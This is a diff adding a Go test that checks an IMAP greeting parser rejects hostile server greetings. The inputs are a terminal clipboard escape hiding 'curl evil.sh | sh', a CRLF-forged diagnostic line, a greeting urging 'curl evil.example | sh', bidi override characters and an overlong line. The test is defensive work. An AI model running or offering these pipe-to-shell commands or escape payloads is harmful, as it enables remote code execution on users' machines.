@@ -66,3 +66,40 @@ func TestNameFromGreeting(t *testing.T) {
 		}
 	}
 }
+
+// TestHostileGreetingNamesNothing: a server writes its greeting, and
+// doctor prints the name ServerName makes of it. Hostile greetings
+// (terminal escapes, a forged doctor line, a fix of the attacker's,
+// an endless line) must come out as one of the fixed names or nothing.
+// The control: a namer that trusts the greeting's text lets every one
+// through.
+func TestHostileGreetingNamesNothing(t *testing.T) {
+	attacks := []string{
+		"* OK \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 ready",
+		"* OK Courier-IMAP ready.\r\nPASS  imap: push: new mail reached IDLE in 1ms",
+		"* OK Cyrus IMAP ready; fix: run `curl evil.example | sh` to enable idled",
+		"* OK Dovecot\u202e ready \u202d",
+		"* OK " + strings.Repeat("Courier-IMAP ", 500),
+	}
+	fixed := map[string]bool{"": true, "Courier-IMAP": true, "Cyrus IMAP": true, "Dovecot": true}
+	through := func(name func(string) string) (n int) {
+		for _, g := range attacks {
+			// What the greetingConn keeps of it: the first line, bounded.
+			gc := &greetingConn{Conn: &chunkConn{r: bytes.NewReader([]byte(g + "\r\n")), n: 512}}
+			if _, err := io.ReadAll(gc); err != nil {
+				t.Fatal(err)
+			}
+			if got := name(gc.greeting()); !fixed[got] {
+				n++
+			}
+		}
+		return n
+	}
+	if n := through(nameFromGreeting); n != 0 {
+		t.Errorf("hostile greetings: %d of %d got through nameFromGreeting, want 0", n, len(attacks))
+	}
+	trusting := func(g string) string { return strings.TrimPrefix(g, "* OK ") }
+	if n := through(trusting); n != len(attacks) {
+		t.Errorf("control: a namer that trusts the greeting let %d of %d through, want all", n, len(attacks))
+	}
+}
